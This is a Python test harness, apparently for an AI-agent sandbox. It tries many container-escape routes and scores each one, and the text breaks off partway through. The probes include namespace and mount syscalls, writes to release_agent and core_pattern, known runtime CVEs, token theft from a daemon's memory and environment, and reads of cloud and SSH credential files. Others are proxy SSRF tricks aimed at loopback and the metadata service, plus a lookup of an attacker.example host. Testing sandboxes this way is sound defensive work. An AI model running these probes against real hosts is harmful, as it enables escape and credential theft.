"""Runs inside a sandbox, or in a service beside one, and tries to get out of it: python3 inside.py config.json results.jsonl

No dependencies. Each attempt runs in its own process with limits of time and memory. Each line of the result is
{"group", "what", "outcome", "by"}. The outcomes:
  stopped   the attempt was refused; `by` names the refusal
  absent    the sandbox lacks what the attempt needs
  harmless  the attempt worked, but reaches nothing outside of this sandbox; `by` says why
  escaped   the attempt reaches something outside, or a part of the host's kernel that a sandbox must not have
"""
import ctypes, errno, glob, json, os, platform, resource, signal, socket, stat, struct, subprocess, sys, time

CONFIG = json.load(open(sys.argv[1]))
CANARY = CONFIG["canary"]  # a secret of the host: an attempt that prints it escaped
OWN_KERNEL = CONFIG["own_kernel"]  # system calls go to the sandbox's own kernel, not the host's
BUILD = CONFIG.get("build", False)  # a step of a template's build, which can be root in its own container
BUILD_CAPABILITIES = 0xDB  # CHOWN, DAC_OVERRIDE, FOWNER, FSETID, SETGID, SETUID
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() in ("aarch64", "arm64")
# System call numbers: x86-64, arm64.
NUMBERS = {
    "acct": (163, 89), "add_key": (248, 217), "bpf": (321, 280), "chroot": (161, 51), "clock_settime": (227, 112),
    "clone3": (435, 435), "delete_module": (176, 106), "fanotify_init": (300, 262), "finit_module": (313, 273),
    "fsmount": (432, 432), "fsopen": (430, 430), "init_module": (175, 105), "io_uring_setup": (425, 425),
    "ioperm": (173, -1), "iopl": (172, -1), "kcmp": (312, 272), "kexec_load": (246, 104), "keyctl": (250, 219),
    "landlock_create_ruleset": (444, 444), "lookup_dcookie": (212, 18), "mount": (165, 40), "mount_setattr": (442, 442),
    "move_mount": (429, 429), "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "open_tree": (428, 428),
    "perf_event_open": (298, 241), "pidfd_getfd": (438, 438), "pidfd_open": (434, 434), "pivot_root": (155, 41),
    "process_vm_readv": (310, 270), "ptrace": (101, 117), "quotactl": (179, 60), "request_key": (249, 218),
    "setdomainname": (171, 162), "sethostname": (170, 161), "setns": (308, 268), "swapoff": (168, 225),
    "swapon": (167, 224), "syslog": (103, 116), "umount2": (166, 39), "unshare": (272, 97), "userfaultfd": (323, 282),
    "vhangup": (153, 58),
}
ATTEMPTS = []


class Stopped(Exception):
    pass


class Absent(Exception):
    pass


class Harmless(Exception):
    pass


def attempt(group, what):
    def keep(function):
        ATTEMPTS.append((group, what, function))
        return function
    return keep


def called(name, *args):
    number = NUMBERS[name][ARM]
    if number < 0:
        raise Absent("no such system call on this processor")
    result = libc.syscall(number, *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def kernel(text):
    """The call worked: on the host's kernel that is an escape, on the sandbox's own kernel it is harmless."""
    if OWN_KERNEL:
        raise Harmless("the sandbox's own kernel answers, not the host's")
    return text


def of_build(text):
    """What a build can do to its own container: it becomes the image of its owner, and nobody else's."""
    if BUILD:
        raise Harmless("a build changes the files of its own image, and its root has nothing beyond them")
    return text


def try_open(path, mode=os.O_RDONLY):
    fd = os.open(path, mode | os.O_NONBLOCK)
    try:
        return os.read(fd, 4096) if mode == os.O_RDONLY else b"opened for writing"
    finally:
        os.close(fd)


def first_that_works(tries):
    """Tries each (what to return, call) until one works. If all are refused, raises the last refusal."""
    refused = None
    for result, call in tries:
        try:
            call()
            return result
        except OSError as error:
            refused = error
    raise refused


def writes(paths):
    return ((f"{path} can be written", lambda path=path: try_open(path, os.O_WRONLY)) for path in paths)


def first_writable(paths):
    return first_that_works(writes(paths))


def no_canary(seen, otherwise):
    text = seen if isinstance(seen, str) else seen.decode("latin1")
    if CANARY in text:
        return f"read the host's secret: {otherwise}"
    raise Stopped(otherwise)


# ---- privileges

def status():
    return dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)


@attempt("privileges", "capabilities of this process, now or to be had")
def _():
    found = {name: int(status()[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    if BUILD and not any(value & ~BUILD_CAPABILITIES for value in found.values()):
        raise Harmless("at most the six that package managers need: own, write and change files, become another user")
    if any(found.values()):
        return f"{found}"
    raise Stopped("every set is empty, the bounding set too")


@attempt("privileges", "being root")
def _():
    if 0 in (os.getuid(), os.geteuid(), os.getgid()) or 0 in os.getgroups():
        return of_build(f"uid {os.getuid()} gid {os.getgid()} groups {os.getgroups()}")
    try:
        os.setuid(0)
    except OSError as error:
        raise Stopped(f"user {os.getuid()}; setuid(0): {errno.errorcode[error.errno]}")
    return "setuid(0) worked"


@attempt("privileges", "setuid programs (su, mount, sudo)")
def _():
    found = [p for p in ("/bin/su", "/bin/mount", "/usr/bin/passwd", "/usr/bin/sudo", "/usr/bin/newgrp") if os.path.exists(p)]
    if libc.prctl(39, 0, 0, 0, 0) != 1:
        return f"no_new_privs is not set, and there are {found}"
    for path in found:
        subprocess.run([path, "--help"], stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
    raise Stopped(f"no_new_privs: {len(found)} of them give no rights")


@attempt("privileges", "a setuid program of one's own")
def _():
    own = os.path.join("/tmp", "own-suid")
    open(own, "wb").write(open("/bin/true", "rb").read())
    os.chmod(own, 0o6755)
    owner = os.stat(own).st_uid
    os.unlink(own)
    if owner == 0:
        return of_build("a file of root's was made setuid")
    raise Stopped(f"it belongs to user {owner}, and no_new_privs holds")


@attempt("privileges", "file capabilities on a program of one's own")
def _():
    own = os.path.join("/tmp", "own-caps")
    open(own, "wb").write(b"#!/bin/true\n")
    try:
        os.setxattr(own, "security.capability", struct.pack("<IIIII", 0x02000001, 0x200000, 0, 0, 0))
    finally:
        os.unlink(own)
    return kernel("security.capability was set")


@attempt("privileges", "running without a seccomp filter")
def _():
    if "Seccomp" not in status():
        raise Harmless("the sandbox's own kernel names none") if OWN_KERNEL else Absent("the kernel does not say")
    if status()["Seccomp"] != "2":
        return kernel("no filter is in place")
    raise Stopped("a filter is in place (mode 2)")


# ---- namespaces and mounts

for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("network", 0x40000000), ("pid", 0x20000000), ("cgroup", 0x2000000)):
    def make(flag=flag, name=name):
        called("unshare", flag)
        return kernel(f"a new {name} namespace: its root may try what only root may on this kernel")
    attempt("namespaces", f"unshare a {name} namespace")(make)


@attempt("namespaces", "clone3 into a user namespace")
def _():
    args = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = called("clone3", ctypes.byref(args), 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return kernel("a child in a new user namespace")


@attempt("namespaces", "nested user namespace, then mount")
def _():
    called("unshare", 0x10020000)
    called("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    return kernel("a tmpfs was mounted with the rights of a nested namespace")


@attempt("namespaces", "join the namespaces of process 1")
def _():
    same = []
    for kind in ("user", "mnt", "net", "pid", "ipc"):
        fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        try:
            called("setns", fd, 0)
            same.append(kind)
        except OSError as error:
            refused = error
        finally:
            os.close(fd)
    if same:
        return kernel(f"joined {same}")
    raise refused


@attempt("namespaces", "join a namespace through a pidfd")
def _():
    fd = called("pidfd_open", 1, 0)
    called("setns", fd, 0x20000000)
    return kernel("joined by pidfd")


for what, args in (
    ("mount a tmpfs", (b"none", b"/tmp", b"tmpfs", 0, None)),
    ("mount procfs again, without its masks", (b"proc", b"/tmp", b"proc", 0, None)),
    ("mount sysfs", (b"sysfs", b"/tmp", b"sysfs", 0, None)),
    ("mount a cgroup hierarchy", (b"cgroup", b"/tmp", b"cgroup", 0, b"rdma")),
    ("mount cgroup2", (b"cgroup2", b"/tmp", b"cgroup2", 0, None)),
    ("mount the host's first disk", (b"/dev/vda", b"/tmp", b"ext4", 0, None)),
    ("mount an overlay on the system", (b"overlay", b"/usr", b"overlay", 0, b"lowerdir=/usr,upperdir=/tmp,workdir=/tmp")),
    ("bind the root somewhere else", (b"/", b"/tmp", None, 4096 | 16384, None)),
    ("make the root writable again", (None, b"/", None, 32 | 4096, None)),
    ("make the mounts shared", (None, b"/", None, 1 << 20 | 16384, None)),
):
    def make(args=args):
        called("mount", *[0 if a is None else a for a in args])
        return kernel("mount worked")
    attempt("mounts", what)(make)


@attempt("mounts", "unmount the masks of /proc")
def _():
    called("umount2", b"/proc/kcore", 2)
    return kernel("unmounted")


@attempt("mounts", "the new mount calls (fsopen, open_tree, mount_setattr)")
def _():
    calls = (("fsopen", (b"tmpfs", 0)), ("open_tree", (-100, b"/", 1)), ("mount_setattr", (-100, b"/", 0, b"\0" * 32, 32)))
    return kernel(first_that_works((f"{call} worked", lambda call=call, args=args: called(call, *args)) for call, args in calls))


@attempt("mounts", "pivot_root and chroot")
def _():
    calls = (("pivot_root", (b"/tmp", b"/tmp")), ("chroot", (b"/tmp",)))
    return kernel(first_that_works((f"{call} worked", lambda call=call, args=args: called(call, *args)) for call, args in calls))


@attempt("mounts", "folders of the host that are mounted writable")
def _():
    own = ("/workspace", "/tmp", "/var/tmp", "/home/agent", "/home/user", "/dev", "/run", "/proc", "/sys")
    bad = []
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        where, options = fields[4], fields[5].split(",")
        if "rw" not in options or where.startswith(own) or where in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf"):
            continue
        if BUILD and where == "/":
            continue  # the container's own layer
        if where == "/mnt" and fields[fields.index("-") + 1] == "tmpfs":
            continue  # a folder in memory of the sandbox's own
        if os.access(where, os.W_OK):
            bad.append(where)
    if bad:
        return f"writable: {bad}"
    raise Stopped("writable is only what is the sandbox's own")


# ---- devices

for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/sda", "/dev/vda",
             "/dev/nvme0n1", "/dev/loop-control", "/dev/loop0", "/dev/mapper/control", "/dev/vsock", "/dev/vhost-vsock",
             "/dev/vhost-net", "/dev/uinput", "/dev/input/event0", "/dev/dri/card0", "/dev/userfaultfd", "/dev/cuse", "/dev/autofs", "/dev/snapshot"):
    def make(path=path):
        try_open(path)
        return kernel(f"{path} can be opened")
    attempt("devices", f"open {path}")(make)


@attempt("devices", "make a device node for a disk, and read it")
def _():
    for major, minor in ((8, 0), (254, 0), (259, 0)):
        path = f"/tmp/node-{major}"
        os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        try:
            try_open(path)
            return kernel("a disk was read")
        finally:
            os.unlink(path)


# ---- /proc and /sys

for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/overcommit_memory",
             "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/randomize_va_space", "/proc/sys/kernel/unprivileged_userns_clone", "/proc/irq/default_smp_affinity", "/proc/bus/pci",
             "/proc/1/oom_score_adj", "/proc/1/mem", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/kernel/profiling",
             "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/module/kernel/parameters/panic", "/sys/firmware/efi/efivars"):
    def make(path=path):
        if os.path.isdir(path):
            if os.access(path, os.W_OK):
                return kernel("the folder is writable")
            raise Stopped("the folder is not writable")
        # Only opens and closes the file, because a write could change the host.
        if path in ("/proc/1/oom_score_adj", "/proc/1/mem"):
            try_open(path, os.O_WRONLY)
            raise Harmless("process 1 is the sandbox's own, and of the same user")
        try_open(path, os.O_WRONLY)
        return kernel("opened for writing")
    attempt("/proc and /sys", f"write {path}")(make)

for path in ("/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/sched_debug", "/proc/timer_list", "/proc/keys", "/proc/key-users", "/proc/sysvipc/shm",
             "/proc/iomem", "/proc/kpageflags", "/proc/kpagecount", "/proc/kpagecgroup", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/pagetypeinfo", "/sys/kernel/debug/tracing/trace", "/sys/kernel/security/apparmor/profiles", "/sys/firmware/acpi/tables/DSDT",
             "/proc/config.gz", "/sys/kernel/notes"):
    def make(path=path):
        seen = try_open(path)
        if path == "/proc/kallsyms":
            if all(line.startswith(b"0000000000000000") for line in seen.splitlines()[:20]):
                raise Stopped("every address reads as zero")
        elif path == "/proc/sysvipc/shm":
            if len(seen.splitlines()) <= 1:
                raise Stopped("the segments of the host are not listed")
        elif path in ("/proc/keys", "/proc/key-users"):
            if CANARY[:16].encode() not in seen:
                raise Stopped("keys of nobody else are listed")
        elif path == "/proc/iomem" and b"00000000-00000000" in seen:
            raise Stopped("every address reads as zero")
        elif path in ("/proc/config.gz", "/sys/kernel/notes"):
            raise Harmless("how the kernel was built, which is no secret")
        elif not seen.strip():
            raise Stopped("it is masked: an empty file")
        return kernel(f"{path} tells of the host: {seen[:40]!r}")
    attempt("/proc and /sys", f"read {path}")(make)


@attempt("/proc and /sys", "a cgroup's release_agent or notify file anywhere")
def _():
    found = [p for p in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + glob.glob("/sys/fs/cgroup/*/notify_on_release") if os.access(p, os.W_OK)]
    if found:
        return kernel(f"writable: {found}")
    raise Stopped("none is writable")


@attempt("/proc and /sys", "raise the own limits in the cgroup")
def _():
    found = [p for name in ("memory.limit_in_bytes", "memory.max", "pids.max", "cpu.max", "cgroup.procs", "tasks")
             for p in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True) if os.access(p, os.W_OK)]
    if found:
        return kernel(f"writable: {found}")
    raise Stopped("none is writable")


@attempt("/proc and /sys", "processes of the host or of neighbours")
def _():
    seen = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            seen.append(open(path, "rb").read().replace(b"\0", b" ").decode("latin1"))
        except OSError:
            pass
    foreign = [line for line in seen if "dockerd" in line or "containerd" in line or "src/app/main.ts" in line or "vitest" in line]
    if foreign:
        return f"{foreign}"
    raise Stopped(f"its own pid namespace shows {len(seen)} processes of its own")


# ---- the kernel's doors

for what, call, args in (
    ("bpf", "bpf", (0, b"\x01\0\0\0\x04\0\0\0\x04\0\0\0\x01\0\0\0" + b"\0" * 56, 72)),
    ("perf_event_open", "perf_event_open", (b"\x01\0\0\0\x40\0\0\0" + b"\0" * 120, 0, -1, -1, 0)),
    ("userfaultfd with faults of the kernel", "userfaultfd", (0,)),
    ("io_uring_setup", "io_uring_setup", (4, b"\0" * 120)),
    ("kexec_load", "kexec_load", (0, 0, 0, 0)),
    ("init_module", "init_module", (b"\0" * 64, 64, b"")),
    ("finit_module", "finit_module", (0, b"", 0)),
    ("delete_module", "delete_module", (b"none", 0)),
    ("open_by_handle_at on the root (the Shocker hole)", "open_by_handle_at", (-100, b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 0)),
    ("acct", "acct", (b"/tmp/acct",)),
    ("swapon", "swapon", (b"/tmp/none", 0)),
    ("quotactl", "quotactl", (0x800007 << 8, b"/dev/vda", 0, b"\0" * 64)),
    ("syslog: the kernel's messages", "syslog", (3, b"\0" * 4096, 4096)),
    ("iopl", "iopl", (3,)),
    ("ioperm", "ioperm", (0x80, 1, 1)),
    ("sethostname", "sethostname", (b"sandbox", 7)),
    ("setdomainname", "setdomainname", (b"none", 4)),
    ("clock_settime", "clock_settime", (0, b"\0" * 16)),
    ("fanotify_init", "fanotify_init", (0, 0)),
    ("lookup_dcookie", "lookup_dcookie", (0, b"\0" * 64, 64)),
    ("vhangup", "vhangup", ()),
    ("kcmp of process 1", "kcmp", (1, 1, 0, 0, 0)),
):
    def make(call=call, args=args):
        if call == "clock_settime":
            args = (0, struct.pack("ll", *divmod(time.time_ns(), 10**9)))
        if call in ("kcmp", "fanotify_init"):
            called(call, *args)
            raise Harmless("it tells of the sandbox's own processes or files alone")
        called(call, *args)
        return kernel(f"{call} worked")
    attempt("the kernel's doors", what)(make)

KEYCTL_GET, KEYCTL_SEARCH = 0, 10


@attempt("keyrings", "add a key to the user's keyring, which all of the user's sandboxes would share")
def _():
    called("add_key", b"user", b"corral-escape", b"x", 1, -4)
    return kernel("the key is in the keyring of the user")


@attempt("keyrings", "find the key that a neighbour put into its keyring")
def _():
    found = called("keyctl", KEYCTL_SEARCH, -4, b"user", CANARY[:16].encode(), 0)
    return f"found key {found}"


@attempt("keyrings", "request_key, which starts a program of the host's root")
def _():
    called("request_key", b"user", b"corral-none", b"", -4)
    return kernel("the host was called")


# ---- sockets

for what, family, kind, protocol in (
    ("AF_VSOCK, to the hypervisor and neighbours", 40, socket.SOCK_STREAM, 0), ("AF_PACKET", 17, socket.SOCK_RAW, 3),
    ("raw IP", 2, socket.SOCK_RAW, 1), ("raw IPv6", 10, socket.SOCK_RAW, 58), ("AF_ALG, the kernel's ciphers", 38, socket.SOCK_SEQPACKET, 0),
    ("AF_KEY", 15, socket.SOCK_RAW, 2), ("AF_XDP", 44, socket.SOCK_RAW, 0), ("AF_CAN", 29, socket.SOCK_RAW, 1), ("AF_TIPC", 30, socket.SOCK_SEQPACKET, 0),
    ("AF_RDS", 21, socket.SOCK_SEQPACKET, 0), ("AF_BLUETOOTH", 31, socket.SOCK_RAW, 1), ("AF_SMC", 43, socket.SOCK_STREAM, 0),
    ("AF_QIPCRTR", 42, socket.SOCK_DGRAM, 0),
):
    def make(family=family, kind=kind, protocol=protocol, what=what):
        socket.socket(family, kind, protocol).close()
        return kernel(f"a socket of {what.split(',')[0]} was made")
    attempt("sockets", what)(make)


@attempt("sockets", "netlink: change the network or its filter")
def _():
    for protocol in (0, 12):
        with socket.socket(16, socket.SOCK_RAW, protocol) as line:
            line.settimeout(3)
            kind = 16 if protocol == 0 else (10 << 8)  # RTM_NEWLINK; a new table of nftables
            body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + struct.pack("HH", 8, 3) + b"cor0"
            line.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
            code = struct.unpack_from("i", line.recv(4096), 16)[0]
            if code == 0:
                return kernel("a link or a table was made")
    raise Stopped(f"the kernel answers {errno.errorcode.get(-code, code)}")


def dial_abstract(name):
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(3)
        line.connect(f"\0{name}")
        return line.recv(256)


@attempt("sockets", "an abstract Unix socket of the host")
def _():
    return no_canary(dial_abstract(CONFIG["abstract"]), "connected, and nothing was returned")


@attempt("sockets", "an abstract Unix socket of a neighbour")
def _():
    return no_canary(dial_abstract(f"neighbour-{CANARY[:16]}"), "connected, and nothing was returned")


@attempt("sockets", "abstract sockets of container engines (CVE-2020-15257)")
def _():
    names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if "@" in line]
    foreign = [name for name in names if "containerd" in name or "shim" in name or "dbus" in name]
    if foreign:
        return f"{foreign}"
    raise Stopped(f"its own network namespace lists {len(names)} of them, none an engine's")


for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/podman/podman.sock",
             "/run/k3s/containerd/containerd.sock", "/var/lib/kubelet/pod-resources/kubelet.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/user/0/bus", "/proc/1/root/var/run/docker.sock", "/run/corral/../docker.sock"):
    def make(path=path):
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(3)
            line.connect(path)
        return f"{path} answers"
    attempt("sockets", f"connect to {path}")(make)


# ---- the sandbox's own daemon and its sockets

def daemons():
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if b"sandboxd.mjs" in open(path, "rb").read():
                found.append(int(path.split("/")[2]))
        except OSError:
            pass
    return [pid for pid in found if pid != os.getpid()]


def the_daemon():
    found = daemons()
    if not found:
        raise Absent("the daemon is not to be seen")
    return max(found)


def tokens():
    """The variables with TOKEN in their name, from every environment that this process can read."""
    found = {}
    for path in ["/proc/self/environ"] + [f"/proc/{pid}/environ" for pid in daemons()]:
        try:
            pairs = open(path, "rb").read().decode("latin1").split("\0")
        except OSError:
            continue
        found.update(dict(pair.split("=", 1) for pair in pairs if "TOKEN" in pair.split("=")[0]))
    return found


@attempt("the daemon", "read its token from an environment, and dial the server with it")
def _():
    found = tokens()
    control = "/run/corral/control"
    if not os.path.exists(control):
        raise Absent("the server dials in here: there is no socket to dial")
    tried = [*found.values(), "guess"]
    for token in tried:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(3)
            line.connect(control)
            line.sendall((json.dumps({"corral": 1, "version": "x", "boot": "stolen", "token": token}) + "\n").encode())
            answer = line.recv(64).decode("latin1")
            if answer.startswith("ok"):
                return "the server took the dialler for the daemon"
    raise Stopped(f"only a hash is to be read, and the server answers: {answer.strip()}")


@attempt("the daemon", "its memory by /proc/PID/mem")
def _():
    with open(f"/proc/{the_daemon()}/mem", "rb", 0) as memory:
        memory.seek(int(open(f"/proc/{the_daemon()}/maps").readline().split("-")[0], 16))
        memory.read(16)
    return "its memory can be read, and its token is in there"


@attempt("the daemon", "its memory by process_vm_readv")
def _():
    pid = the_daemon()
    where = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
    room = ctypes.create_string_buffer(16)
    local, remote = (ctypes.c_uint64 * 2)(ctypes.addressof(room), 16), (ctypes.c_uint64 * 2)(where, 16)
    called("process_vm_readv", pid, local, 1, remote, 1, 0)
    return "its memory can be read"


@attempt("the daemon", "ptrace")
def _():
    pid = the_daemon()
    called("ptrace", 0x4206, pid, 0, 0)
    called("ptrace", 0x11, pid, 0, 0)
    return "attached"


@attempt("the daemon", "take its open sockets by pidfd_getfd")
def _():
    pidfd = called("pidfd_open", the_daemon(), 0)
    for fd in range(3, 40):
        try:
            called("pidfd_getfd", pidfd, fd, 0)
            return "a socket of the daemon was taken"
        except OSError as error:
            if error.errno != errno.EBADF:
                raise


@attempt("the daemon", "stop it by a signal")
def _():
    os.kill(the_daemon(), 0)
    raise Harmless("only its own sandbox ends; the server counts that and goes on")


@attempt("the daemon", "put another program in its place")
def _():
    return of_build(first_writable(("/opt/corral/sandboxd.mjs", "/opt/corral/init.sh", "/usr/local/bin/node", f"/proc/{the_daemon()}/exe", "/proc/1/exe")))


@attempt("the daemon", "replace the server's socket by one's own, or by a link")
def _():
    if not os.path.exists("/run/corral/control"):
        raise Absent("the server dials in here: there is no folder of its sockets")
    names = os.listdir("/run/corral")
    acts = (
        lambda: os.rename("/run/corral/control", "/run/corral/old"), lambda: os.unlink("/run/corral/control"),
        lambda: os.symlink("/etc/passwd", "/run/corral/other"), lambda: os.rename("/run/corral", "/run/away"),
        lambda: os.link("/run/corral/control", "/workspace/control"), lambda: os.chmod("/run/corral", 0o777),
    )
    return first_that_works((f"the folder of sockets was changed: {names}", act) for act in acts)


@attempt("the daemon", "the sockets of other sandboxes beside one's own")
def _():
    beside = []
    for path in ("/run/corral/..", "/proc/1/root/run/corral/..", "/run/corral/../.."):
        for name in os.listdir(path) if os.path.isdir(path) else ():
            if name.startswith("sbx-"):
                beside.append(f"{path}/{name}")
    if beside:
        return f"{beside}"
    raise Stopped("only its own folder is mounted")


# ---- files of the host

@attempt("files of the host", "a secret by its path")
def _():
    return no_canary(try_open(CONFIG["canary_file"]), "another file of that name")


for through in ("/proc/1/root", "/proc/1/cwd/../../../..", "/proc/self/root/../../..", "/workspace/../../../..", "/run/corral/../../../..", "/dev/fd/../../.."):
    def make(through=through):
        return no_canary(try_open(through + CONFIG["canary_file"]), "another file of that name")
    attempt("files of the host", f"a secret through {through}")(make)


@attempt("files of the host", "open files that the engine leaked (CVE-2024-21626)")
def _():
    for fd in range(0, 64):
        for tail in ("", "/..", "/../../.."):
            try:
                if CANARY in open(f"/proc/self/fd/{fd}{tail}{CONFIG['canary_file']}").read():
                    return f"through descriptor {fd}"
            except OSError:
                pass
    raise Stopped("none of 64 descriptors leads out")


@attempt("files of the host", "overwrite the runtime through /proc/self/exe (CVE-2019-5736)")
def _():
    return first_writable(("/proc/self/exe", "/proc/1/exe"))


@attempt("files of the host", "write to the read-only system")
def _():
    def make():
        open("/usr/new", "w").close()
    tries = list(writes(("/usr/bin/env", "/etc/passwd", "/etc/ld.so.cache", "/bin/sh")))
    return of_build(first_that_works([*tries, ("a file in /usr was made", make)]))


@attempt("files of the host", "the overlay's folders by the paths that mountinfo tells")
def _():
    for word in open("/proc/self/mountinfo").read().replace(",", " ").split():
        if word.startswith(("upperdir=", "workdir=", "lowerdir=")):
            for path in word.split("=", 1)[1].split(":"):
                if os.path.exists(path):
                    return f"{path} is there"
    raise Stopped("the paths are the host's, and not there in here")


@attempt("files of the host", "a hard link to a file of another user")
def _():
    paths = (CONFIG["canary_file"],) if BUILD else ("/etc/passwd", CONFIG["canary_file"])
    return first_that_works((f"{path} has a second name in the workspace", lambda path=path: os.link(path, "/workspace/hard")) for path in paths)


@attempt("files of the host", "core dumps")
def _():
    if resource.getrlimit(resource.RLIMIT_CORE)[1] != 0:
        return kernel("the hard limit is not 0")
    raise Stopped("the hard limit is 0")


@attempt("files of the host", "shared memory and message queues of the host")
def _():
    for path in (f"/dev/shm/{CONFIG['shm']}", f"/dev/mqueue/{CONFIG['shm']}"):
        try:
            return no_canary(try_open(path), "another of that name")
        except OSError as error:
            refused = error
    raise refused


@attempt("files of the host", "credentials that clouds and clusters leave")
def _():
    paths = ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.aws/credentials", "/root/.kube/config", "/root/.ssh/id_rsa", "/etc/shadow",
             "/etc/kubernetes/admin.conf", "/var/lib/kubelet/config.yaml", "/root/.docker/config.json"]
    for path in paths:
        if BUILD and path == "/etc/shadow":
            continue  # the image's own, without a password
        try:
            if try_open(path):
                return f"{path} can be read"
        except OSError:
            pass
    raise Stopped(f"none of {len(paths)} is there to read")


@attempt("files of the host", "secrets in the environment")
def _():
    seen = "".join(open(p, "rb").read().decode("latin1") for p in glob.glob("/proc/[0-9]*/environ") if os.access(p, os.R_OK))
    return no_canary(seen, "the server's secret is in none that can be read")


# ---- the network

def dial(host, port, ask=b"GET / HTTP/1.0\r\n\r\n"):
    with socket.create_connection((host, port), timeout=3) as line:
        line.sendall(ask)
        return line.recv(512)


@attempt("the network", "interfaces other than loopback")
def _():
    names = sorted(name for _, name in socket.if_nameindex())
    if names == ["lo"]:
        raise Stopped("there is none")
    if CONFIG["networked"]:
        raise Harmless(f"{names}: a pod has one; policies of the cluster say where it leads, and the attempts below where not")
    return f"{names}"


for what, host, port in CONFIG["targets"]:
    def make(host=host, port=port):
        seen = dial(host, port)
        if CANARY.encode() in seen:
            return "the service answered with the host's secret"
        return f"answered: {seen[:40]!r}"
    attempt("the network", f"dial {what}")(make)


@attempt("the network", "names through a name server, or a tunnel in them")
def _():
    try:
        found = socket.getaddrinfo("x.attacker.example", 80)
    except socket.gaierror as error:
        raise Stopped(f"getaddrinfo: {error.strerror}")
    return f"resolved: {found[:1]}"


@attempt("the network", "UDP to the world")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(2)
        line.connect(("192.0.2.1", 53))  # an address for documents, which nobody has
        line.send(b"\0" * 12)
    if CONFIG["networked"]:
        raise Harmless("a pod has an interface; policies drop what it sends")
    return "a packet was sent"


def through_proxy(first):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as line:
        line.sendall(first.encode("latin1"))
        seen = b""
        while chunk := line.recv(4096):
            seen += chunk
            if len(seen) > 4096 or b"\r\n\r\n" in seen:
                break
        if seen.split(b" ")[1:2] == [b"200"] and first.startswith("CONNECT"):
            line.sendall(b"GET / HTTP/1.0\r\n\r\n")
            seen += line.recv(4096)
        return seen


PORT = CONFIG["service_port"]
for host in ("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "localhost.",
             "10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254", "[fd00:ec2::254]", "100.64.0.1", "[64:ff9b::7f00:1]", "metadata.google.internal"):
    def make(host=host):
        seen = through_proxy(f"CONNECT {host}:{PORT} HTTP/1.1\r\nHost: {host}:{PORT}\r\n\r\n")
        if CANARY.encode() in seen or seen.split(b" ")[1:2] == [b"200"]:
            return f"the proxy connected: {seen[:60]!r}"
        raise Stopped(f"the proxy answers {seen.split(bytes([13]))[0].decode('latin1') or 'nothing'}")
    attempt("the proxy", f"CONNECT {host}")(make)

for what, first in (
    ("a whole address of the host's service", "GET http://127.0.0.1:{p}/ HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n"),
    ("a Host that is not the address", "GET http://example.com:{p}/ HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n"),
    ("user and password in the address", "GET http://example.com@127.0.0.1:{p}/ HTTP/1.1\r\nHost: example.com\r\n\r\n"),
    ("an address split by a line break", "CONNECT 127.0.0.1:{p}\r\nHost: example.com HTTP/1.1\r\n\r\n"),
    ("a path in place of an address", "GET / HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n"),
    ("two Content-Lengths", "POST http://127.0.0.1:{p}/ HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabc"),
    ("file: as the scheme", "GET file:///etc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("unix: as the scheme", "GET http+unix://%2Fvar%2Frun%2Fdocker.sock/info HTTP/1.1\r\nHost: localhost\r\n\r\n"),
):
    def make(first=first):
        seen = through_proxy(first.replace("{p}", str(PORT)))
        if CANARY.encode() in seen or seen.split(b" ")[1:2] == [b"200"]:
